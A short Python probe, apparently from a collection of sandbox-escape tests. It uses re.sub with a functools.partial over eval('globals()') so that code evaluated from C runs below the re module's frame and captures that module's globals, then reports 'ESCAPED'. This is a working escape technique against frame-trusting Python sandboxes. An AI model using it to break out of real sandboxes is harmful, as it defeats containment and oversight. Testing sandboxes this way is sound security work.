# technique: re.sub calls the replacement from C, below the frame of re
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import re
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))
try:
    re.sub('x', peek, 'x')
except TypeError:
    pass
if kept[0]['__name__'] == 're':
    print('ESCAPED globals of re')
